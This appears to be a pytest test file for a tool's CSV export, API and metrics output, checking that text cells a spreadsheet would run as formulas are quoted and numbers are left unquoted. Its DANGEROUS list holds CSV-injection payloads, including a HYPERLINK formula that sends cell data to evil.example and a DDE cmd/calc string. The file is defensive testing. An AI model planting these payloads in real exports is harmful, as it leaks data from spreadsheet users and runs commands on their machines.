"""CSV safe to open in a spreadsheet: every CSV syncd writes (`syncd export`, the API's CSV
answers, `syncd metrics --format csv`) quotes text a spreadsheet would run as a formula, and
only that text, on SQLite and PostgreSQL.

Titles, state names and value stream names below are the classic injection forms; the
warehouse holds them as the trackers and the config gave them. Each CSV is read back with
`csv.reader` and compared with the same output's JSON form: a leading `'` on the dangerous
text cells is the only difference, numbers (a negative deviation) are written as numbers."""

from __future__ import annotations

import csv
import io
import json
import warnings
from collections.abc import Iterator, Mapping, Sequence
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from syncd.api.app import create_app
from syncd.config import load_config
from syncd.contract import Cursor, Page
from syncd.csvsafe import FORMULA_STARTS, cell, write_rows
from syncd.domain import FlowItem, Stage, Transition
from syncd.metrics.incremental import update_metrics
from syncd.streams import ValueStreams, write_tables
from syncd.warehouse.store import Warehouse
from tests.helpers import cli

with warnings.catch_warnings():
    warnings.filterwarnings("ignore", message="Using `httpx` with `starlette.testclient`")
    from fastapi.testclient import TestClient

AS_OF = datetime(2026, 3, 2, tzinfo=UTC)  # a Monday: the week of 2026-02-16 is complete
#: value stream names the config accepts: one configured, one a source's own
OPS, PLAT = "-Ops", "=Plat"
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=A1\n=B2, with "quotes"',
]
BENIGN = [
    "Checkout fails, with a comma",
    'The "pay" button',
    "Überweisung – 50 % schneller",
    "1+1 is not a formula here",
    "a=b",
    " =leading space",
    "line one\rline two",  # a bare CR inside: quoted, or a reader splits the row
]
#: a done state named like a negative number: text, so quoted like every other text
NUMBER_LIKE_STATE = "-1"


def quoted(text: str) -> str:
    """What a text cell must hold: the text, behind `'` when it starts a formula."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


# -- the rule itself ------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*DANGEROUS, "-1", "-0.05", "=", "\0x"])
def test_text_starting_a_formula_is_quoted(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", [*BENIGN, "", "'already quoted", "x=1"])
def test_other_text_is_unchanged(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", [-0.05, -3, 0, 2.5, Decimal("-1.25"), float("-inf")])
def test_numbers_are_never_quoted(number: object) -> None:
    assert cell(number) is number
    out = io.StringIO()
    write_rows(out, ["n"], [[number]], lineterminator="\n")
    assert out.getvalue() == f"n\n{number}\n"


def test_the_rule_covers_owasp_starts() -> None:
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_line_breaks_inside_a_field_are_quoted_whatever_the_line_end(end: str) -> None:
    out = io.StringIO()
    write_rows(out, ["a", "b"], [["x\ry", "x\ny"], ["x", "y"]], lineterminator=end)
    assert out.getvalue() == f'a,b{end}"x\ry","x\ny"{end}x,y{end}'
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["a", "b"],
        ["x\ry", "x\ny"],
        ["x", "y"],
    ]


def test_write_rows_counts_rows_and_keeps_the_terminator() -> None:
    out = io.StringIO()
    count = write_rows(out, ["a", "b"], [["=1", None], ["x", -1.5]], lineterminator="\r\n")
    assert count == 2
    assert out.getvalue() == "a,b\r\n'=1,\r\nx,-1.5\r\n"


# -- a warehouse holding the dangerous text ------------------------------------------------------


def _item(n: int, title: str, stream: str, flow_type: str, done_state: str) -> FlowItem:
    created = datetime(2026, 2, 16, 9, tzinfo=UTC) + timedelta(hours=n)
    steps = [
        (created, "To Do", Stage.NEW),
        (created + timedelta(days=1), "In Progress", Stage.ACTIVE),
        (created + timedelta(days=3), done_state, Stage.DONE),
    ]
    transitions = []
    for i, (at, state, stage) in enumerate(steps):
        prev = steps[i - 1] if i else None
        transitions.append(
            Transition(
                at=at,
                from_state=prev[1] if prev else None,
                to_state=state,
                from_stage=prev[2] if prev else None,
                to_stage=stage,
            )
        )
    project = "OPS" if stream == OPS else "PLAT"
    return FlowItem(
        source="jira",
        id=str(n),
        key=f"{project}-{n}",
        kind="issue",
        title=title,
        project=project,
        flow_type=flow_type,
        value_stream=stream,
        stage=Stage.DONE,
        state=done_state,
        created_at=created,
        updated_at=steps[-1][0],
        transitions=transitions,
        labels=["=label", "team"],
    )


@pytest.fixture
def config(tmp_path: Path, warehouse_url: str) -> str:
    """A config whose value streams are named `-Ops` (configured, with targets that the
    actual split misses, so some deviations are negative) and `=Plat` (the source's), and
    a warehouse with one done item per title: dangerous ones in `-Ops`, benign ones in
    `=Plat`. Nothing is fetched: the items are written as a sync would write them."""
    path = tmp_path / "syncd.toml"
    path.write_text(
        f"""
[warehouse]
url = "{warehouse_url}"

[[sources]]
name = "jira"
kind = "jira"
url = "http://127.0.0.1:9"
value_stream = "{PLAT}"

[[value_streams]]
name = "{OPS}"
scopes = [{{ source = "jira", projects = ["OPS"] }}]
target_distribution = {{ feature = 0.9, defect = 0.1 }}
""",
        encoding="utf-8",
    )
    loaded = load_config(path)
    assert [vs.name for vs in loaded.value_streams] == [OPS]
    assert loaded.sources[0].stream_value == PLAT
    items = [
        _item(n, title, OPS, "feature" if n == 1 else "defect", "Done")
        for n, title in enumerate(DANGEROUS, start=1)
    ]
    items += [
        _item(n, title, PLAT, "feature", NUMBER_LIKE_STATE if n == 100 else "Done")
        for n, title in enumerate(BENIGN, start=100)
    ]
    warehouse = Warehouse(warehouse_url)
    try:
        page = Page(raws=[], items=items, cursor=Cursor(watermark=AS_OF))
        warehouse.commit_page(source="jira", stream="s", run_id="r", page=page, now=AS_OF)
        update_metrics(warehouse, as_of=AS_OF)
        write_tables(warehouse, ValueStreams.from_config(loaded))
    finally:
        warehouse.close()
    return str(path)


@pytest.fixture
def client(config: str) -> Iterator[TestClient]:
    warehouse = Warehouse(load_config(config).warehouse.resolved_url())
    yield TestClient(create_app(warehouse, clock=lambda: AS_OF))
    warehouse.close()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _same_but_quoted(csv_rows: list[dict[str, str]], records: Sequence[Mapping[str, Any]]) -> None:
    """The CSV rows are the records with text cells quoted where they start a formula and
    nothing else changed: numbers unquoted and equal, NULL empty."""
    assert len(csv_rows) == len(records) > 0
    for row, record in zip(csv_rows, records, strict=True):
        assert list(row) == list(record)
        for name, value in record.items():
            got = row[name]
            if value is None:
                assert got == "", name
            elif isinstance(value, bool):
                assert got in ("true", "false", "True", "False"), name
            elif isinstance(value, int | float):
                assert not got.startswith("'"), (name, got)
                assert float(got) == pytest.approx(value), name
            elif isinstance(value, list | dict):
                assert json.loads(got) == value, name
            else:
                assert got == quoted(value), (name, value, got)


def _negative_deviation(rows: list[dict[str, str]], stream_cell: str) -> str:
    cells = [r["deviation"] for r in rows if r["value_stream"] == stream_cell and r["deviation"]]
    negative = [c for c in cells if c.startswith("-")]
    assert negative, cells
    assert all(float(c) < 0 for c in negative)
    return negative[0]


# -- syncd export ------------------------------------------------------------------------------


def _export(config: str, what: str, fmt: str) -> str:
    code, out = cli(["export", what, "-c", config, "--format", fmt])
    assert code == 0, out
    return out


def test_export_items_csv_quotes_formulas(config: str) -> None:
    text = _export(config, "items", "csv")
    rows = _rows(text)
    titles = {r["key"]: r["title"] for r in rows}
    for n, title in enumerate(DANGEROUS, start=1):
        assert titles[f"OPS-{n}"] == "'" + title
    for n, title in enumerate(BENIGN, start=100):
        assert titles[f"PLAT-{n}"] == title
    by_key = {r["key"]: r for r in rows}
    assert by_key["PLAT-100"]["state"] == "'-1"
    assert by_key["OPS-1"]["value_stream"] == "'-Ops"
    assert by_key["PLAT-101"]["value_stream"] == "'=Plat"
    assert text.endswith("\n") and "\r\n" not in text  # the export's line ends are `\n`
    records = [json.loads(line) for line in _export(config, "items", "jsonl").splitlines()]
    _same_but_quoted(rows, records)


def test_export_transitions_csv_quotes_state_names(config: str) -> None:
    rows = _rows(_export(config, "transitions", "csv"))
    states = {r["to_state"] for r in rows if r["key"] == "PLAT-100"}
    assert "'-1" in states and NUMBER_LIKE_STATE not in states
    records = [json.loads(line) for line in _export(config, "transitions", "jsonl").splitlines()]
    _same_but_quoted(rows, records)


def test_export_metrics_csv_keeps_negative_numbers(config: str) -> None:
    rows = _rows(_export(config, "metrics", "csv"))
    assert {r["value_stream"] for r in rows} == {"'-Ops", "'=Plat"}
    _negative_deviation(rows, "'-Ops")
    records = [json.loads(line) for line in _export(config, "metrics", "jsonl").splitlines()]
    _same_but_quoted(rows, records)


# -- the HTTP API --------------------------------------------------------------------------------


def test_api_items_csv_quotes_formulas(client: TestClient) -> None:
    answer = client.get("/api/v1/items", params={"format": "csv", "limit": 1000})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.text.startswith("source,item_id,key,") and answer.text.endswith("\r\n")
    rows = _rows(answer.text)
    titles = {r["key"]: r["title"] for r in rows}
    for n, title in enumerate(DANGEROUS, start=1):
        assert titles[f"OPS-{n}"] == "'" + title
    for n, title in enumerate(BENIGN, start=100):
        assert titles[f"PLAT-{n}"] == title
    assert {r["state"] for r in rows if r["key"] == "PLAT-100"} == {"'-1"}
    # labels are JSON text, which starts with `[`: left alone
    assert all(r["labels"].startswith("[") for r in rows)
    assert {tuple(json.loads(r["labels"])) for r in rows} == {("=label", "team")}
    records = client.get("/api/v1/items", params={"limit": 1000}).json()["items"]
    _same_but_quoted(rows, records)


def test_api_metrics_csv_keeps_negative_numbers(client: TestClient) -> None:
    answer = client.get("/api/v1/metrics", params={"format": "csv", "period": "week"})
    assert answer.status_code == 200, answer.text
    rows = _rows(answer.text)
    assert {r["value_stream"] for r in rows} == {"'-Ops", "'=Plat"}
    _negative_deviation(rows, "'-Ops")
    records = client.get("/api/v1/metrics", params={"period": "week"}).json()["metrics"]
    _same_but_quoted(rows, records)


# -- syncd metrics ------------------------------------------------------------------------------


def test_syncd_metrics_csv_quotes_value_streams_not_numbers(config: str) -> None:
    argv = ["metrics", "-c", config, "--period", "week", "--as-of", AS_OF.isoformat()]
    code, text = cli([*argv, "--format", "csv"])
    assert code == 0, text
    rows = _rows(text)
    assert {r["value_stream"] for r in rows} == {"'-Ops", "'=Plat"}
    _negative_deviation(rows, "'-Ops")
    assert text.endswith("\n") and "\r" not in text
    code, js = cli([*argv, "--format", "json"])
    assert code == 0, js
    from syncd.export import metric_record_flat

    flat = [metric_record_flat(r) for r in json.loads(js)]
    _same_but_quoted(rows, flat)
